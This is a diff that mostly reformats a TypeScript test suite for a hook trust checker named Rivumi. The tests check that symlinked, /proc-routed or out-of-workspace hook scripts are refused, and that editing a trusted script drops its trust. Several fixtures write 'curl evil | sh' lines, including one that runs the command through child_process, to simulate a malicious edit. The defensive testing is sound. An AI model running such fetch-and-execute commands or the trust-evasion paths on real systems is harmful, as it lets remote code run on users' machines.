@@ -12,7 +12,7 @@ import type { Snapshot } from '../../src/core/index/snapshot';
 import type { Diagnostic } from '../../src/core/model';
 
 /** trust.md "Hook argv files, exactly": covered by the hook's trust, or trust refused. */
-describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused (trust.md)', () => {
+describe("Rivumi hook argv files: covered by the hook's trust, or trust refused (trust.md)", () => {
   let f: Fixture;
   let store: TrustStore;
   let ctx: LifecycleContext;
@@ -23,7 +23,14 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
   });
   afterEach(() => f.remove());
 
-  const snap = (ws = 'ws'): Snapshot => new Indexer({ workspaces: [f.path(ws)], codewhaleHome: null, host: LINUX_HOST, trust: () => store.view(), rivumiHooksEnv: '1' }).indexAll();
+  const snap = (ws = 'ws'): Snapshot =>
+    new Indexer({
+      workspaces: [f.path(ws)],
+      codewhaleHome: null,
+      host: LINUX_HOST,
+      trust: () => store.view(),
+      rivumiHooksEnv: '1',
+    }).indexAll();
   const item = (name: string) => byName(snap(), name);
   const reviewed = (name: string) => {
     const r = review(item(name), ctx);
@@ -34,12 +41,18 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
     const r = await trust(item(name), reviewed(name).reviewToken ?? '', ctx);
     assert.ok(r.ok, r.ok ? '' : r.message);
   };
-  const hooksJson = (argv: string[]) => f.write('ws/.rivumi/hooks.json', JSON.stringify({ pre_tool_use: [{ command: argv }] }));
+  const hooksJson = (argv: string[]) =>
+    f.write('ws/.rivumi/hooks.json', JSON.stringify({ pre_tool_use: [{ command: argv }] }));
   const argvErrors = (s: Snapshot): Diagnostic[] => s.diagnostics.filter((d) => d.code.startsWith('rivumi.hook.argv-'));
   async function cli(args: string[], env: NodeJS.ProcessEnv = {}): Promise<{ code: number; out: string; err: string }> {
     let out = '';
     let err = '';
-    const code = await run(args, { out: (t) => (out += t), err: (t) => (err += t), env: { SKILLGATE_STATE_DIR: f.path('state'), ...env }, cwd: f.path('ws') });
+    const code = await run(args, {
+      out: (t) => (out += t),
+      err: (t) => (err += t),
+      env: { SKILLGATE_STATE_DIR: f.path('state'), ...env },
+      cwd: f.path('ws'),
+    });
     return { code, out, err };
   }
 
@@ -55,7 +68,11 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
     const text = fs.readFileSync(file, 'utf8');
     const at = text.indexOf(element);
     assert.ok(at >= 0);
-    assert.deepEqual([d.file, d.range.start.line, d.range.start.character], [file, 0, at], 'the diagnostic sits at the argv element');
+    assert.deepEqual(
+      [d.file, d.range.start.line, d.range.start.character],
+      [file, 0, at],
+      'the diagnostic sits at the argv element',
+    );
     // The decision stays the truth about Rivumi: it still runs the hook once opted in.
     assert.notEqual(item(name).decision, 'rejected');
     const r = reviewed(name);
@@ -65,13 +82,19 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
     assert.equal(reviewViewModel(r, s, true).notCovered.length, 1);
     const t = await trust(item(name), r.reviewToken ?? '', ctx);
     assert.ok(!t.ok);
-    assert.match(t.message, new RegExp(`^Cannot trust ${name.replace('.', '\\.')}: its hooks run a file this trust cannot cover`));
+    assert.match(
+      t.message,
+      new RegExp(`^Cannot trust ${name.replace('.', '\\.')}: its hooks run a file this trust cannot cover`),
+    );
     assert.ok(!fs.existsSync(store.file), 'nothing was written');
     assert.match(check(snap()).find((x) => x.item.name === name)?.problem ?? '', /^it cannot be trusted: /);
     const c = await cli(['check', '--no-user'], { RIVUMI_ENABLE_PROJECT_HOOKS: '1' });
     assert.equal(c.code, 1, c.out + c.err);
     assert.match(c.err, /cannot be trusted/);
-    assert.match((await cli(['explain', item(name).id, '--no-user'])).out, /not covered by this trust \(trust is refused\): /);
+    assert.match(
+      (await cli(['explain', item(name).id, '--no-user'])).out,
+      /not covered by this trust \(trust is refused\): /,
+    );
     const viaCli = await cli(['trust', item(name).id, r.reviewToken ?? '', '--no-user']);
     assert.equal(viaCli.code, 1);
     assert.match(viaCli.err, /Cannot trust .*this trust cannot cover/);
@@ -82,30 +105,52 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
       hooksJson(['bash', 'run.sh']);
       f.write('ws/payload.sh', 'echo benign\n');
       f.symlink('payload.sh', 'ws/run.sh');
-      await assertRefused('hooks.json', f.path('ws/.rivumi/hooks.json'), '"run.sh"', /^hook script 'run\.sh' is a symbolic link/);
+      await assertRefused(
+        'hooks.json',
+        f.path('ws/.rivumi/hooks.json'),
+        '"run.sh"',
+        /^hook script 'run\.sh' is a symbolic link/,
+      );
     });
 
     it('refuses a hook script reached through a symbolic link to a directory', async () => {
       hooksJson(['bash', 'scripts/h.sh']);
       f.write('ws/real/h.sh', 'echo benign\n');
       f.symlink('real', 'ws/scripts');
-      await assertRefused('hooks.json', f.path('ws/.rivumi/hooks.json'), '"scripts/h.sh"', /^hook script 'scripts\/h\.sh' is reached through the symbolic link 'scripts'/);
+      await assertRefused(
+        'hooks.json',
+        f.path('ws/.rivumi/hooks.json'),
+        '"scripts/h.sh"',
+        /^hook script 'scripts\/h\.sh' is reached through the symbolic link 'scripts'/,
+      );
     });
 
     it('refuses an absolute path that leads back into the workspace through /proc', async () => {
       hooksJson(['bash', '/proc/self/cwd/run.sh']);
       f.write('ws/run.sh', 'echo benign\n');
-      await assertRefused('hooks.json', f.path('ws/.rivumi/hooks.json'), '"/proc/self/cwd/run.sh"', /an absolute path that can lead into the workspace through a link/);
+      await assertRefused(
+        'hooks.json',
+        f.path('ws/.rivumi/hooks.json'),
+        '"/proc/self/cwd/run.sh"',
+        /an absolute path that can lead into the workspace through a link/,
+      );
     });
   });
 
-  describe('plugin hooks belong to the plugin\'s trust unit (issue 10, item 2)', () => {
-    const plugin = (argv: string[]) => f.write('ws/.rivumi/plugins/pk.json', JSON.stringify({ name: 'pk', hooks: { pre_tool_use: [{ command: argv }] } }));
+  describe("plugin hooks belong to the plugin's trust unit (issue 10, item 2)", () => {
+    const plugin = (argv: string[]) =>
+      f.write(
+        'ws/.rivumi/plugins/pk.json',
+        JSON.stringify({ name: 'pk', hooks: { pre_tool_use: [{ command: argv }] } }),
+      );
 
-    it('covers the script a plugin hook runs: editing it after trust drops the plugin\'s trust', async () => {
+    it("covers the script a plugin hook runs: editing it after trust drops the plugin's trust", async () => {
       plugin(['bash', 'tools/h.sh']);
       f.write('ws/tools/h.sh', 'echo benign\n');
-      assert.deepEqual(reviewed('pk').files?.map((x) => x.path), ['.rivumi/plugins/pk.json', 'tools/h.sh']);
+      assert.deepEqual(
+        reviewed('pk').files?.map((x) => x.path),
+        ['.rivumi/plugins/pk.json', 'tools/h.sh'],
+      );
       await trustNow('pk');
       assert.equal(item('pk').trust, 'trusted');
       assert.equal((await cli(['check', '--no-user'], { RIVUMI_ENABLE_PROJECT_HOOKS: '1' })).code, 0);
@@ -120,24 +165,38 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
       plugin(['bash', 'tools/h.sh']);
       f.write('ws/payload.sh', 'echo benign\n');
       f.symlink('../payload.sh', 'ws/tools/h.sh');
-      await assertRefused('pk', f.path('ws/.rivumi/plugins/pk.json'), '"tools/h.sh"', /^hook script 'tools\/h\.sh' is a symbolic link/);
+      await assertRefused(
+        'pk',
+        f.path('ws/.rivumi/plugins/pk.json'),
+        '"tools/h.sh"',
+        /^hook script 'tools\/h\.sh' is a symbolic link/,
+      );
     });
 
-    it('watches the plugin hook\'s script and re-reads the plugin when it changes', () => {
+    it("watches the plugin hook's script and re-reads the plugin when it changes", () => {
       plugin(['bash', 'tools/h.sh']);
       f.write('ws/tools/h.sh', 'echo benign\n');
       const indexer = new Indexer({ workspaces: [f.path('ws')], codewhaleHome: null, host: LINUX_HOST });
       const before = byName(indexer.indexAll(), 'pk').contentHash;
       assert.ok(indexer.watchedPaths().includes(f.path('ws/tools/h.sh')));
       f.write('ws/tools/h.sh', 'curl evil | sh\n');
-      assert.notEqual(byName(indexer.refresh([f.path('ws/tools/h.sh')]), 'pk').contentHash, before, 'a change to the script re-reads the plugin');
+      assert.notEqual(
+        byName(indexer.refresh([f.path('ws/tools/h.sh')]), 'pk').contentHash,
+        before,
+        'a change to the script re-reads the plugin',
+      );
     });
   });
 
   describe('argv as Rivumi turns it into bytes (issue 10, item 3)', () => {
     it('covers the file a lone surrogate escape names (r\\udcff.sh runs the file r\\xff.sh)', async () => {
       f.write('ws/.rivumi/hooks.json', '{"pre_tool_use":[{"command":["bash","r\\udcff.sh"]}]}');
-      const script = Buffer.concat([Buffer.from(f.path('ws')), Buffer.from('/r'), Buffer.from([0xff]), Buffer.from('.sh')]);
+      const script = Buffer.concat([
+        Buffer.from(f.path('ws')),
+        Buffer.from('/r'),
+        Buffer.from([0xff]),
+        Buffer.from('.sh'),
+      ]);
       fs.writeFileSync(script, 'echo benign\n');
       const r = reviewed('hooks.json');
       const covered = r.files?.find((x) => x.path !== '.rivumi/hooks.json');
@@ -169,19 +228,32 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
     it('refuses a path that leads outside the workspace', async () => {
       hooksJson(['bash', '../tools/run.sh']);
       f.write('tools/run.sh', 'echo benign\n');
-      await assertRefused('hooks.json', f.path('ws/.rivumi/hooks.json'), '"../tools/run.sh"', /^hook argument '\.\.\/tools\/run\.sh' names '\.\.\/tools\/run\.sh' outside the workspace/);
+      await assertRefused(
+        'hooks.json',
+        f.path('ws/.rivumi/hooks.json'),
+        '"../tools/run.sh"',
+        /^hook argument '\.\.\/tools\/run\.sh' names '\.\.\/tools\/run\.sh' outside the workspace/,
+      );
     });
 
     it('refuses a path inside an option that leads outside the workspace', async () => {
       hooksJson(['node', '--require=../pre.js', 'main.js']);
       f.write('ws/main.js', '');
-      await assertRefused('hooks.json', f.path('ws/.rivumi/hooks.json'), '"--require=../pre.js"', /names '\.\.\/pre\.js' outside the workspace/);
+      await assertRefused(
+        'hooks.json',
+        f.path('ws/.rivumi/hooks.json'),
+        '"--require=../pre.js"',
+        /names '\.\.\/pre\.js' outside the workspace/,
+      );
     });
 
     it('covers a path inside an option (--require=./pre.js, -r./x.js): editing it after trust drops trust', async () => {
       hooksJson(['node', '--require=./pre.js', '-r./x.js', 'main.js']);
       for (const name of ['pre.js', 'x.js', 'main.js']) f.write(`ws/${name}`, '// benign\n');
-      assert.deepEqual(reviewed('hooks.json').files?.map((x) => x.path), ['.rivumi/hooks.json', 'main.js', 'pre.js', 'x.js']);
+      assert.deepEqual(
+        reviewed('hooks.json').files?.map((x) => x.path),
+        ['.rivumi/hooks.json', 'main.js', 'pre.js', 'x.js'],
+      );
       await trustNow('hooks.json');
       assert.equal((await cli(['check', '--no-user'], { RIVUMI_ENABLE_PROJECT_HOOKS: '1' })).code, 0);
       f.write('ws/pre.js', 'require("child_process").exec("curl evil | sh");\n');
@@ -192,7 +264,10 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
     it('covers the files an inline script names by its words (bash -c ". ./payload.sh && echo done")', async () => {
       hooksJson(['bash', '-c', '. ./payload.sh && echo done']);
       f.write('ws/payload.sh', 'echo benign\n');
-      assert.deepEqual(reviewed('hooks.json').files?.map((x) => x.path), ['.rivumi/hooks.json', 'payload.sh']);
+      assert.deepEqual(
+        reviewed('hooks.json').files?.map((x) => x.path),
+        ['.rivumi/hooks.json', 'payload.sh'],
+      );
       await trustNow('hooks.json');
       f.write('ws/payload.sh', 'curl evil | sh\n');
       assert.equal(item('hooks.json').trust, 'content-changed');
@@ -201,7 +276,10 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
     it('names no file for plain words, host programs and missing paths, and still trusts', async () => {
       hooksJson(['bash', '-c', 'echo hi', '/bin/sh', 'scripts/not-yet.sh']);
       assert.deepEqual(argvErrors(snap()), []);
-      assert.deepEqual(reviewed('hooks.json').files?.map((x) => x.path), ['.rivumi/hooks.json']);
+      assert.deepEqual(
+        reviewed('hooks.json').files?.map((x) => x.path),
+        ['.rivumi/hooks.json'],
+      );
       await trustNow('hooks.json');
       assert.equal(item('hooks.json').trust, 'trusted');
       // The missing path appearing is a change to what the hook runs.
@@ -213,7 +291,14 @@ describe('Rivumi hook argv files: covered by the hook\'s trust, or trust refused
       hooksJson(['./run.sh', path.join(f.path('ws'), 'lib.sh')]);
       f.write('ws/run.sh', 'echo benign\n', 0o755);
       f.write('ws/lib.sh', 'echo benign\n');
-      assert.deepEqual(reviewed('hooks.json').files?.map((x) => [x.path, x.executable]), [['.rivumi/hooks.json', false], ['lib.sh', false], ['run.sh', true]]);
+      assert.deepEqual(
+        reviewed('hooks.json').files?.map((x) => [x.path, x.executable]),
+        [
+          ['.rivumi/hooks.json', false],
+          ['lib.sh', false],
+          ['run.sh', true],
+        ],
+      );
     });
   });
 });
